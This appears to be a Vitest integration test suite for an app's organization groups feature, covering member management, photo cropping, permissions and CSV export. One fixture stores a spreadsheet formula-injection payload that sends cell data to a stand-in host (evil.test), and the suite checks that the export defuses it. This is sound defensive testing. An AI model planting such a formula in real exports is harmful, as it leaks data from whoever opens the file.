import { and, asc, eq } from 'drizzle-orm';
import { createElement, type ReactNode } from 'react';
import { renderToReadableStream } from 'react-dom/server';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';

import { MyGroups } from '@/app/(account)/settings/profile/my-groups';
import { GET as candidates } from '@/app/(org)/org-settings/groups/[id]/candidates/route';
import DeleteGroupPage from '@/app/(org)/org-settings/groups/[id]/delete/page';
import { GET as exportCsv } from '@/app/(org)/org-settings/groups/[id]/members.csv/route';
import GroupPage from '@/app/(org)/org-settings/groups/[id]/page';
import { createGroup, deleteGroup, updateGroup } from '@/app/(org)/org-settings/groups/actions';
import { addGroupMember, removeGroupMember } from '@/app/(org)/org-settings/groups/member-actions';
import NewGroupPage from '@/app/(org)/org-settings/groups/new/page';
import GroupsPage from '@/app/(org)/org-settings/groups/page';
import { removeGroupPhoto, uploadGroupPhoto } from '@/app/(org)/org-settings/groups/photo-actions';
import { signInWithPassword } from '@/app/sign-in/actions';
import { I18nProvider } from '@/components/i18n-provider';
import { getDb } from '@/db';
import { auditLog, files, groupMembers, groups, roleAssignments, roles, users } from '@/db/schema';
import { setFlash } from '@/lib/http/flash';
import { compiledMessagesFor } from '@/lib/i18n/messages';
import { listUserGroupsForAdmin, listVisibleGroupsOf, membersCsvStream } from '@/lib/org/groups';
import { revalidated } from '@/tests/shims/next-cache';

import { TestClient } from '../support/client';
import { useTestDatabase } from '../support/database';
import { addUser, createOrgWithUser, STRONG_PASSWORD } from '../support/fixtures';

useTestDatabase();

const TAKEN = 'A group with this name already exists. Choose another name.';
const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
let orgId: string;
const id = {} as Record<
  'ada' | 'bob' | 'carol' | 'dave' | 'gus' | 'mallory' | 'eve' | 'frank' | 'foreignGroup',
  string
>;
const as = {} as Record<'ada' | 'bob' | 'carol' | 'gus' | 'eve', TestClient>;

async function signIn(email: string) {
  const browser = new TestClient();
  expect((await browser.action(signInWithPassword, { email, password: STRONG_PASSWORD })).redirect).toBe(
    '/settings/profile',
  );
  return browser;
}

async function makeGroup(
  values: { orgId?: string; name: string; visibility?: 'public' | 'private' | 'hidden' },
  members: string[] = [],
) {
  const db = await getDb();
  const [group] = await db
    .insert(groups)
    .values({ orgId, ...values })
    .returning();
  if (members.length)
    await db.insert(groupMembers).values(members.map((userId) => ({ orgId: group.orgId, groupId: group.id, userId })));
  return group;
}
const groupRow = async (groupId: string) =>
  (await (await getDb()).select().from(groups).where(eq(groups.id, groupId)))[0];
const memberIds = async (groupId: string) =>
  (await (await getDb()).select().from(groupMembers).where(eq(groupMembers.groupId, groupId)))
    .map((m) => m.userId)
    .sort();
const audits = async (action: string, targetId: string) =>
  (await getDb())
    .select()
    .from(auditLog)
    .where(and(eq(auditLog.action, action), eq(auditLog.targetId, targetId)));
/** Every group and membership of every organization, to prove a refused request changed nothing. */
async function snapshot() {
  const db = await getDb();
  return JSON.stringify([
    await db.select().from(groups).orderBy(asc(groups.id)),
    await db.select().from(groupMembers).orderBy(asc(groupMembers.groupId), asc(groupMembers.userId)),
    (await db.select().from(files)).length,
  ]);
}

async function html(browser: TestClient, tree: () => Promise<ReactNode>): Promise<string> {
  const { result } = await browser.run(async () => {
    const stream = await renderToReadableStream(
      createElement(I18nProvider, { locale: 'en', timeZone: 'UTC', messages: compiledMessagesFor('en') }, await tree()),
    );
    await stream.allReady;
    return new Response(stream).text();
  });
  return result!;
}
const pageProps = (groupId: string, search: Record<string, string> = {}) => ({
  params: Promise.resolve({ id: groupId }),
  searchParams: Promise.resolve(search),
});
const route = (browser: TestClient, handler: typeof exportCsv, groupId: string, query = '') =>
  browser.run(() =>
    handler(new Request(`http://localhost:3000/org-settings/groups/${groupId}/x${query}`), {
      params: Promise.resolve({ id: groupId }),
    }),
  );

/** RFC 4180, enough to read our own output back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

beforeAll(async () => {
  const db = await getDb();
  const acme = await createOrgWithUser({ orgName: 'Acme', email: 'ada@acme.test', role: 'admin' });
  orgId = acme.org.id;
  id.ada = acme.user.id;
  id.bob = (await addUser(orgId, { email: 'bob@acme.test', firstName: 'Bob' })).id;
  id.carol = (await addUser(orgId, { email: 'carol@acme.test', firstName: 'Carol' })).id;
  id.dave = (await addUser(orgId, { email: 'dave@acme.test', firstName: 'Dave' })).id;
  id.gus = (await addUser(orgId, { email: 'gus@acme.test', firstName: 'Gus' })).id;
  id.mallory = (await addUser(orgId, { email: 'mallory@acme.test', firstName: HYPERLINK })).id;
  await db.update(users).set({ status: 'deactivated' }).where(eq(users.id, id.dave));
  await db
    .update(users)
    .set({ lastName: 'Smith, "Jr"\nLine two', username: '@mallory' })
    .where(eq(users.id, id.mallory));
  // Gus may manage groups through a custom role, not through his managed role.
  const [role] = await db
    .insert(roles)
    .values({ orgId, name: 'Group keeper', permissions: ['groups.manage'] })
    .returning();
  await db.insert(roleAssignments).values({ orgId, roleId: role.id, userId: id.gus });
  const other = await createOrgWithUser({ orgName: 'Elsewhere', email: 'eve@elsewhere.test', role: 'owner' });
  id.eve = other.user.id;
  id.frank = (await addUser(other.org.id, { email: 'frank@elsewhere.test', firstName: 'Frank' })).id;
  id.foreignGroup = (await makeGroup({ orgId: other.org.id, name: 'Design team' }, [id.frank])).id;
  for (const who of ['ada', 'bob', 'carol', 'gus', 'eve'] as const)
    as[who] = await signIn(`${who}@${who === 'eve' ? 'elsewhere' : 'acme'}.test`);
});

describe('creating a group', () => {
  it('creates it, audits it and redirects to its page', async () => {
    const outcome = await as.ada.action(createGroup, {
      name: '  Design   team ',
      type: 'department',
      visibility: 'private',
      description: ' Makes things look good. ',
    });
    const [created] = await (
      await getDb()
    )
      .select()
      .from(groups)
      .where(and(eq(groups.orgId, orgId), eq(groups.name, 'Design team')));
    expect(created).toMatchObject({
      type: 'department',
      visibility: 'private',
      description: 'Makes things look good.',
      photoFileId: null,
    });
    expect(outcome.redirect).toBe(`/org-settings/groups/${created.id}`);
    expect(as.ada.flash).toMatchObject({ status: 'success', key: 'groups.notice.created' });
    expect((await audits('group.created', created.id))[0]).toMatchObject({
      actorUserId: id.ada,
      data: { name: 'Design team', type: 'department', visibility: 'private' },
    });
  });

  it('refuses a name taken in the organization, whatever its case, as a field error', async () => {
    const before = await snapshot();
    const { result } = await as.gus.action(createGroup, { name: 'DESIGN TEAM', type: 'team', visibility: 'public' });
    expect(result).toMatchObject({ status: 'error', fieldErrors: { name: [TAKEN] }, values: { name: 'DESIGN TEAM' } });
    expect(await snapshot()).toBe(before);
  });

  it('refuses a missing or long name, a control character, an unknown type or visibility, and a long description', async () => {
    const before = await snapshot();
    const cases: Array<[Record<string, string>, string, string]> = [
      [{ name: '   ', type: 'team', visibility: 'public' }, 'name', 'Fill in this field.'],
      [{ name: 'x'.repeat(101), type: 'team', visibility: 'public' }, 'name', 'This is too long.'],
      [
        { name: 'Bell\u0007', type: 'team', visibility: 'public' },
        'name',
        'Remove the control or invisible direction characters from this field.',
      ],
      [{ name: 'Ok', type: 'guild', visibility: 'public' }, 'type', 'Choose a group type.'],
      [{ name: 'Ok', visibility: 'public' }, 'type', 'Choose a group type.'],
      [{ name: 'Ok', type: 'team', visibility: 'secret' }, 'visibility', 'Choose a visibility.'],
      [
        { name: 'Ok', type: 'team', visibility: 'public', description: 'd'.repeat(501) },
        'description',
        'This is too long.',
      ],
    ];
    for (const [fields, field, message] of cases) {
      const { result } = await as.ada.action(createGroup, fields);
      expect(result?.status).toBe('error');
      expect(result?.fieldErrors?.[field]).toEqual([message]);
    }
    expect(await snapshot()).toBe(before);
  });
});

describe('editing a group', () => {
  it('saves the changed fields with an audit entry', async () => {
    const group = await makeGroup({ name: 'Ops' });
    const { result } = await as.ada.action(updateGroup, {
      groupId: group.id,
      name: 'Operations',
      type: 'project',
      visibility: 'hidden',
      description: '',
    });
    expect(result).toMatchObject({ status: 'success', message: 'Group saved.' });
    expect(await groupRow(group.id)).toMatchObject({ name: 'Operations', type: 'project', visibility: 'hidden' });
    const [entry] = await audits('group.updated', group.id);
    expect(entry.data).toMatchObject({
      fields: ['name', 'type', 'visibility'],
      before: { name: 'Ops' },
      after: { name: 'Operations' },
    });
    expect(revalidated).toContain(`/org-settings/groups/${group.id}`);
  });

  it('refuses another group’s name; a foreign or malformed id is a 404 and changes nothing', async () => {
    const group = await makeGroup({ name: 'Support' });
    const before = await snapshot();
    const taken = await as.ada.action(updateGroup, {
      groupId: group.id,
      name: 'design team',
      type: 'team',
      visibility: 'public',
    });
    expect(taken.result?.fieldErrors?.name).toEqual([TAKEN]);
    for (const groupId of [id.foreignGroup, 'not-a-uuid', '00000000-0000-4000-8000-000000000000']) {
      expect(
        (await as.ada.action(updateGroup, { groupId, name: 'Hijacked', type: 'team', visibility: 'public' })).notFound,
      ).toBe(true);
    }
    expect(await snapshot()).toBe(before);
  });
});

describe('members', () => {
  it('adds people of the organization and removes them, with audit entries', async () => {
    const group = await makeGroup({ name: 'Backend' });
    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.carol })).result).toMatchObject({
      status: 'success',
      message: 'Member added.',
    });
    expect((await as.gus.action(addGroupMember, { groupId: group.id, userId: id.bob })).result?.status).toBe('success');
    expect(await memberIds(group.id)).toEqual([id.bob, id.carol].sort());
    expect((await audits('group.member_added', group.id)).map((e) => e.data.userId).sort()).toEqual(
      [id.bob, id.carol].sort(),
    );

    const again = await as.ada.action(addGroupMember, { groupId: group.id, userId: id.carol });
    expect(again.result).toMatchObject({ status: 'error', message: 'This person is already a member.' });

    expect((await as.ada.action(removeGroupMember, { groupId: group.id, userId: id.carol })).result).toMatchObject({
      status: 'success',
      message: 'Member removed.',
    });
    expect(await memberIds(group.id)).toEqual([id.bob]);
    expect((await audits('group.member_removed', group.id))[0].data).toMatchObject({ userId: id.carol });
    const notMember = await as.ada.action(removeGroupMember, { groupId: group.id, userId: id.carol });
    expect(notMember.result).toMatchObject({ status: 'error', message: 'This person is not a member of the group.' });
  });

  it('never adds someone of another organization or a deactivated person', async () => {
    const group = await makeGroup({ name: 'Frontend' });
    const before = await snapshot();
    for (const userId of [id.frank, id.eve, 'nope', '']) {
      const { result } = await as.ada.action(addGroupMember, { groupId: group.id, userId });
      expect(result?.status).toBe('error');
    }
    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.frank })).result?.message).toBe(
      'This person is not in your organization.',
    );
    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.dave })).result?.message).toBe(
      'This person is deactivated and cannot be added.',
    );
    expect(await snapshot()).toBe(before);
  });

  it('answers a foreign group id with 404, for adding and removing alike', async () => {
    const before = await snapshot();
    expect((await as.ada.action(addGroupMember, { groupId: id.foreignGroup, userId: id.carol })).notFound).toBe(true);
    expect((await as.ada.action(addGroupMember, { groupId: id.foreignGroup, userId: id.frank })).notFound).toBe(true);
    expect((await as.ada.action(removeGroupMember, { groupId: id.foreignGroup, userId: id.frank })).notFound).toBe(
      true,
    );
    expect(await snapshot()).toBe(before);
    expect(await memberIds(id.foreignGroup)).toEqual([id.frank]);
  });

  it('suggests people by name, email or username: same organization, not yet members, not deactivated', async () => {
    const group = await makeGroup({ name: 'Search' }, [id.bob]);
    const response = (await route(as.ada, candidates, group.id, '?q=ACME.test')).result!;
    expect(response.status).toBe(200);
    const found = ((await response.json()) as { candidates: Array<{ id: string; email: string }> }).candidates.map(
      (c) => c.email,
    );
    expect(found).toEqual(
      expect.arrayContaining(['ada@acme.test', 'carol@acme.test', 'gus@acme.test', 'mallory@acme.test']),
    );
    expect(found).not.toEqual(expect.arrayContaining(['bob@acme.test']));
    expect(found.some((e) => e.startsWith('dave') || e.endsWith('elsewhere.test'))).toBe(false);
    const byUsername = (await (await route(as.ada, candidates, group.id, '?q=%40mallo')).result!.json()) as {
      candidates: Array<{ email: string }>;
    };
    expect(byUsername.candidates.map((c) => c.email)).toEqual(['mallory@acme.test']);
    // A LIKE wildcard in the query is a literal character.
    expect(
      ((await (await route(as.ada, candidates, group.id, '?q=%25')).result!.json()) as { candidates: unknown[] })
        .candidates,
    ).toEqual([]);
    for (const [who, groupId] of [
      ['ada', id.foreignGroup],
      ['bob', group.id],
      ['carol', group.id],
      ['ada', 'nope'],
    ] as const) {
      expect((await route(as[who], candidates, groupId, '?q=user')).result!.status).toBe(404);
    }
  });

  it('lists matches with an "Add" button on the page without JavaScript', async () => {
    const group = await makeGroup({ name: 'No script' }, [id.bob]);
    const page = await html(as.ada, () => GroupPage(pageProps(group.id, { q: 'user' })));
    expect(page).toContain('aria-label="Add Carol User to the group"');
    expect(page).not.toContain('Add Bob User');
    expect(page).not.toContain('Frank');
    expect(page).toContain('aria-label="Remove Bob User from the group"');
  });
});

describe('deleting a group', () => {
  it('refuses a wrong confirmation, then deletes the group, its members and its photo', async () => {
    const group = await makeGroup({ name: 'Legacy' }, [id.bob, id.carol]);
    const png = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#00ff00' } })
      .png()
      .toBuffer();
    await as.ada.action(uploadGroupPhoto, {
      groupId: group.id,
      photo: new File([new Uint8Array(png)], 'g.png', { type: 'image/png' }),
    });
    const { photoFileId } = await groupRow(group.id);
    const before = await snapshot();
    for (const confirmName of ['', 'legacy', 'Legacy!', 'Design team']) {
      const { result } = await as.ada.action(deleteGroup, { groupId: group.id, confirmName });
      expect(result?.fieldErrors?.confirmName).toEqual(['Type the group name exactly as shown to delete it.']);
    }
    expect((await as.ada.action(deleteGroup, { groupId: id.foreignGroup, confirmName: 'Design team' })).notFound).toBe(
      true,
    );
    expect(await snapshot()).toBe(before);

    const outcome = await as.ada.action(deleteGroup, { groupId: group.id, confirmName: ' Legacy ' });
    expect(outcome.redirect).toBe('/org-settings/groups');
    expect(as.ada.flash).toMatchObject({ status: 'success', key: 'groups.notice.deleted', values: { name: 'Legacy' } });
    expect(await groupRow(group.id)).toBeUndefined();
    expect(await memberIds(group.id)).toEqual([]);
    expect(await (await getDb()).select().from(files).where(eq(files.id, photoFileId!))).toEqual([]);
    expect((await audits('group.deleted', group.id))[0].data).toMatchObject({ name: 'Legacy', members: 2 });
  });
});

describe('deleting from the list', () => {
  const deleteLink = (groupId: string) => `href="/org-settings/groups/${groupId}/delete"`;
  const confirmPage = (browser: TestClient, groupId: string) =>
    html(browser, () => DeleteGroupPage({ params: Promise.resolve({ id: groupId }) }));

  it('offers Delete on each row, naming the group, and a confirmation page of its own', async () => {
    const group = await makeGroup({ name: 'Doomed & co' }, [id.bob]);
    const list = await html(as.ada, () => GroupsPage({ searchParams: Promise.resolve({}) }));
    expect(list).toMatch(
      new RegExp(`<a ${deleteLink(group.id)}[^>]*aria-label="Delete group Doomed &amp; co"[^>]*>Delete</a>`),
    );
    expect(list).not.toContain(id.foreignGroup);

    const page = await confirmPage(as.ada, group.id);
    expect(page).toContain('<h1 class="page-title">Delete the group “Doomed &amp; co”?</h1>');
    expect(page).toContain('The group, its 1 membership and the roles given through it are deleted.');
    expect(page).toContain('Type the group name to confirm');
    expect(page).toContain(`name="groupId" value="${group.id}"`);
    expect(page).toContain('href="/org-settings/groups">Cancel</a>');

    // The one delete action answers both, and the list then names what went.
    const outcome = await as.ada.action(deleteGroup, { groupId: group.id, confirmName: 'Doomed & co' });
    expect(outcome.redirect).toBe('/org-settings/groups');
    expect(as.ada.flash).toMatchObject({ key: 'groups.notice.deleted', values: { name: 'Doomed & co' } });
    expect(await groupRow(group.id)).toBeUndefined();
    const after = await html(as.ada, () => GroupsPage({ searchParams: Promise.resolve({}) }));
    expect(after).not.toContain(deleteLink(group.id));
    expect(after).not.toContain('>Doomed &amp; co<');
    // Gone, its confirmation page is too.
    expect((await as.ada.run(() => DeleteGroupPage({ params: Promise.resolve({ id: group.id }) }))).notFound).toBe(
      true,
    );
  });

  it("is not found for another organization's group, a malformed id, or someone without groups.manage", async () => {
    const group = await makeGroup({ name: 'Kept' });
    for (const [browser, groupId] of [
      [as.ada, id.foreignGroup],
      [as.ada, 'nope'],
      [as.ada, crypto.randomUUID()],
      [as.eve, group.id],
      [as.bob, group.id],
    ] as const) {
      expect((await browser.run(() => DeleteGroupPage({ params: Promise.resolve({ id: groupId }) }))).notFound).toBe(
        true,
      );
    }
    // Signed out, it asks for a sign-in first.
    const signedOut = await new TestClient().run(() => DeleteGroupPage({ params: Promise.resolve({ id: group.id }) }));
    expect(signedOut.redirect).toMatch(/^\/sign-in/);
    const before = await snapshot();
    expect((await as.eve.action(deleteGroup, { groupId: group.id, confirmName: 'Kept' })).notFound).toBe(true);
    expect(await snapshot()).toBe(before);
  });

  it('offers no Delete for a group whose roles grant more than the viewer holds', async () => {
    const db = await getDb();
    const locked = await makeGroup({ name: 'Locked by roles' });
    const open = await makeGroup({ name: 'Open to change' });
    const [powerful] = await db
      .insert(roles)
      .values({ orgId, name: 'People managers', permissions: ['users.manage'] })
      .returning();
    await db.insert(roleAssignments).values({ orgId, roleId: powerful.id, groupId: locked.id });

    const gusList = await html(as.gus, () => GroupsPage({ searchParams: Promise.resolve({}) }));
    expect(gusList).toContain('Locked by roles');
    expect(gusList).not.toContain(deleteLink(locked.id));
    expect(gusList).toContain(deleteLink(open.id));
    const gusPage = await confirmPage(as.gus, locked.id);
    expect(gusPage).toContain('This group&#x27;s roles grant permissions you do not hold yourself');
    expect(gusPage).not.toContain('Type the group name to confirm');
    const refused = await as.gus.action(deleteGroup, { groupId: locked.id, confirmName: 'Locked by roles' });
    expect(refused.result?.message).toBe(
      "This group's roles grant permissions you do not hold yourself, so you cannot delete it.",
    );
    expect(await groupRow(locked.id)).toBeDefined();

    // The admin holds users.manage, so the group is theirs to delete.
    const adaList = await html(as.ada, () => GroupsPage({ searchParams: Promise.resolve({}) }));
    expect(adaList).toContain(deleteLink(locked.id));
  });
});

describe('group photo', () => {
  it('keeps the square chosen in the cropper, and refuses half a crop', async () => {
    const group = await makeGroup({ name: 'Cropped' });
    // Left half red, right half blue: a crop of the right 100 × 100 is all blue.
    const png = await sharp({ create: { width: 200, height: 100, channels: 3, background: '#0000ff' } })
      .composite([
        {
          input: await sharp({ create: { width: 100, height: 100, channels: 3, background: '#ff0000' } })
            .png()
            .toBuffer(),
          left: 0,
          top: 0,
        },
      ])
      .png()
      .toBuffer();
    const photo = () => new File([new Uint8Array(png)], 'g.png', { type: 'image/png' });
    const half = await as.ada.action(uploadGroupPhoto, { groupId: group.id, photo: photo(), cropX: '100' });
    expect(half.result?.fieldErrors?.cropSize).toEqual(['The crop area is not valid. Choose the image again.']);
    expect((await groupRow(group.id)).photoFileId).toBeNull();

    const ok = await as.ada.action(uploadGroupPhoto, {
      groupId: group.id,
      photo: photo(),
      cropX: '100',
      cropY: '0',
      cropSize: '100',
    });
    expect(ok.result?.message).toMatch(/^Photo updated\. The image is only 200 × 100 pixels/);
    const [file] = await (
      await getDb()
    )
      .select()
      .from(files)
      .where(eq(files.id, (await groupRow(group.id)).photoFileId!));
    const { data, info } = await sharp(file.data!).raw().toBuffer({ resolveWithObject: true });
    const at = (x: number, y: number) =>
      Array.from(data.subarray((y * info.width + x) * info.channels, (y * info.width + x) * info.channels + 3));
    for (const [x, y] of [
      [10, 10],
      [128, 128],
      [245, 245],
    ]) {
      const [r, , b] = at(x, y);
      expect(b, `pixel ${x},${y}`).toBeGreaterThan(200);
      expect(r).toBeLessThan(60);
    }
    expect((await audits('group.updated', group.id))[0].data).toMatchObject({ crop: { x: 100, y: 0, size: 100 } });
  });

  it('stores the centre square as WebP, replaces it and removes it; a foreign id is a 404', async () => {
    const group = await makeGroup({ name: 'Pictured' });
    const png = await sharp({ create: { width: 300, height: 100, channels: 3, background: '#ff0000' } })
      .png()
      .toBuffer();
    const photo = () => new File([new Uint8Array(png)], 'g.png', { type: 'image/png' });
    // 100 pixels high: saved all the same, with the warning the profile photo gives.
    expect((await as.ada.action(uploadGroupPhoto, { groupId: group.id, photo: photo() })).result).toMatchObject({
      status: 'success',
      message:
        'Photo updated. The image is only 300 × 100 pixels, so it may look blurry: 200 × 200 pixels or larger is recommended.',
      values: { warning: 'small' },
    });
    const first = (await groupRow(group.id)).photoFileId!;
    const [file] = await (await getDb()).select().from(files).where(eq(files.id, first));
    expect(file).toMatchObject({ orgId, contentType: 'image/webp' });
    expect(await sharp(file.data!).metadata()).toMatchObject({ width: 256, height: 256 });

    await as.ada.action(uploadGroupPhoto, { groupId: group.id, photo: photo() });
    expect((await groupRow(group.id)).photoFileId).not.toBe(first);
    expect(await (await getDb()).select().from(files).where(eq(files.id, first))).toEqual([]);

    const bad = await as.ada.action(uploadGroupPhoto, {
      groupId: group.id,
      photo: new File(['not an image'], 'x.png', { type: 'image/png' }),
    });
    expect(bad.result?.fieldErrors?.photo).toEqual(['Choose a JPG or PNG image of at most 5 MB.']);
    const before = await snapshot();
    expect((await as.ada.action(uploadGroupPhoto, { groupId: id.foreignGroup, photo: photo() })).notFound).toBe(true);
    expect((await as.ada.action(removeGroupPhoto, { groupId: id.foreignGroup })).notFound).toBe(true);
    expect(await snapshot()).toBe(before);

    expect((await as.ada.action(removeGroupPhoto, { groupId: group.id })).result?.message).toBe('Photo removed.');
    expect((await groupRow(group.id)).photoFileId).toBeNull();
    expect((await audits('group.updated', group.id)).map((e) => e.data.fields)).toEqual([
      ['photo'],
      ['photo'],
      ['photo'],
    ]);
  });
});

describe('exporting members as CSV', () => {
  it('writes RFC 4180 rows with formulas defused', async () => {
    const group = await makeGroup({ name: 'Export: "Q1", all/any' }, [id.ada, id.carol, id.mallory]);
    const body = await new Response(membersCsvStream(await getDb(), { orgId, groupId: group.id })).text();
    expect(body.startsWith('email,first_name,last_name,username,added_at\r\n')).toBe(true);
    expect(body.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(body);
    expect(rows).toHaveLength(4);
    const mallory = rows.find((r) => r[0] === 'mallory@acme.test')!;
    expect(mallory).toEqual([
      'mallory@acme.test',
      `'${HYPERLINK}`,
      'Smith, "Jr"\nLine two',
      "'@mallory",
      expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
    ]);
    expect(body).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);
    expect(body).not.toMatch(/(^|,)=/m);
  });

  it('the address that once answered with the CSV leads to the group’s page, and exports nothing', async () => {
    const group = await makeGroup({ name: 'Old link' }, [id.carol]);
    const response = (await route(as.ada, exportCsv, group.id)).result!;
    expect(response.status).toBe(303);
    expect(response.headers.get('location')).toBe(`/org-settings/groups/${group.id}`);
    expect(await audits('group.exported', group.id)).toEqual([]);
  });

  it('reads every member exactly once across keyset pages', async () => {
    const group = await makeGroup({ name: 'Paged' }, [id.ada, id.bob, id.carol, id.gus, id.mallory]);
    const text = await new Response(membersCsvStream(await getDb(), { orgId, groupId: group.id, pageSize: 2 })).text();
    const emails = parseCsv(text)
      .slice(1)
      .map((r) => r[0])
      .sort();
    expect(emails).toEqual(['ada@acme.test', 'bob@acme.test', 'carol@acme.test', 'gus@acme.test', 'mallory@acme.test']);
    // Another organization's id reads nothing, even for a real group.
    expect(
      parseCsv(await new Response(membersCsvStream(await getDb(), { orgId, groupId: id.foreignGroup })).text()),
    ).toHaveLength(1);
  });

  it('is a 404 without the permission, for another organization’s group or a malformed id, and signed out', async () => {
    const group = await makeGroup({ name: 'Secret list' }, [id.carol]);
    for (const [browser, groupId] of [
      [as.ada, 'not-a-uuid'],
      [as.bob, group.id],
      [as.carol, group.id],
      [as.ada, id.foreignGroup],
      [as.eve, group.id],
      [new TestClient(), group.id],
    ] as const) {
      expect((await route(browser, exportCsv, groupId)).result!.status).toBe(404);
    }
    expect(await audits('group.exported', group.id)).toEqual([]);
  });
});

describe('permissions', () => {
  it('refuses every page and action to a member without groups.manage, changing nothing', async () => {
    const group = await makeGroup({ name: 'Guarded' }, [id.carol]);
    const before = await snapshot();
    const png = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const attempts = [
      as.bob.action(createGroup, { name: 'Bob group', type: 'team', visibility: 'public' }),
      as.bob.action(updateGroup, { groupId: group.id, name: 'Bobbed', type: 'team', visibility: 'public' }),
      as.bob.action(deleteGroup, { groupId: group.id, confirmName: 'Guarded' }),
      as.bob.action(addGroupMember, { groupId: group.id, userId: id.bob }),
      as.bob.action(removeGroupMember, { groupId: group.id, userId: id.carol }),
      as.bob.action(uploadGroupPhoto, {
        groupId: group.id,
        photo: new File([new Uint8Array(png)], 'p.png', { type: 'image/png' }),
      }),
      as.bob.action(removeGroupPhoto, { groupId: group.id }),
      as.bob.run(() => GroupsPage({ searchParams: Promise.resolve({}) })),
      as.bob.run(() => NewGroupPage()),
      as.bob.run(() => GroupPage(pageProps(group.id))),
    ];
    for (const outcome of await Promise.all(attempts)) expect(outcome.notFound).toBe(true);
    expect(await snapshot()).toBe(before);
  });

  it('shows the list to a manager and 404s a foreign or malformed group page', async () => {
    // The message a delete leaves for the list, as the action sets it.
    await as.gus.run(() =>
      setFlash('/org-settings/groups', { status: 'success', key: 'groups.notice.deleted', values: { name: 'Legacy' } }),
    );
    const list = await html(as.gus, () => GroupsPage({ searchParams: Promise.resolve({}) }));
    expect(list).toContain('Guarded');
    expect(list).toContain('Group “Legacy” deleted.');
    expect(list).not.toContain(id.foreignGroup);
    for (const groupId of [id.foreignGroup, 'nope'])
      expect((await as.ada.run(() => GroupPage(pageProps(groupId)))).notFound).toBe(true);
  });
});

describe('groups on a profile', () => {
  let visible: Record<'public' | 'private' | 'hidden', string>;
  beforeAll(async () => {
    visible = {
      public: (await makeGroup({ name: 'Everyone sees me', visibility: 'public' }, [id.carol, id.gus])).id,
      private: (await makeGroup({ name: 'Members see me', visibility: 'private' }, [id.carol, id.gus])).id,
      hidden: (await makeGroup({ name: 'Admins see me', visibility: 'hidden' }, [id.carol, id.gus])).id,
    };
  });

  it('shows public and private groups to their member, hidden ones only to a group manager', async () => {
    const carol = await html(as.carol, () => MyGroups({ userId: id.carol, orgId }));
    expect(carol).toContain('Everyone sees me');
    expect(carol).toContain('Members see me');
    expect(carol).not.toContain('Admins see me');
    const gus = await html(as.gus, () => MyGroups({ userId: id.gus, orgId }));
    expect(gus).toContain('Admins see me');
    expect(gus).toContain(`href="/org-settings/groups/${visible.hidden}"`);
    expect(await html(as.eve, () => MyGroups({ userId: id.carol, orgId }))).toBe('');
  });

  it('lets another viewer see private groups only as a member, and the admin helper sees them all', async () => {
    const db = await getDb();
    // Carol is in groups of earlier tests too; only these three matter here.
    const ours = (list: Array<{ id: string }>) =>
      list
        .map((g) => g.id)
        .filter((g) => Object.values(visible).includes(g))
        .sort();
    const asBob = await listVisibleGroupsOf(db, {
      orgId,
      userId: id.carol,
      viewerId: id.bob,
      viewerManagesGroups: false,
    });
    expect(ours(asBob)).toEqual([visible.public]);
    const asGus = await listVisibleGroupsOf(db, {
      orgId,
      userId: id.carol,
      viewerId: id.gus,
      viewerManagesGroups: false,
    });
    expect(ours(asGus)).toEqual([visible.public, visible.private].sort());
    const asManager = await listVisibleGroupsOf(db, {
      orgId,
      userId: id.carol,
      viewerId: id.bob,
      viewerManagesGroups: true,
    });
    expect(ours(asManager)).toEqual(Object.values(visible).sort());
    const all = await listUserGroupsForAdmin(db, orgId, id.carol);
    expect(all.map((g) => g.id)).toEqual(expect.arrayContaining(Object.values(visible)));
    expect(await listUserGroupsForAdmin(db, orgId, id.frank)).toEqual([]);
  });
});
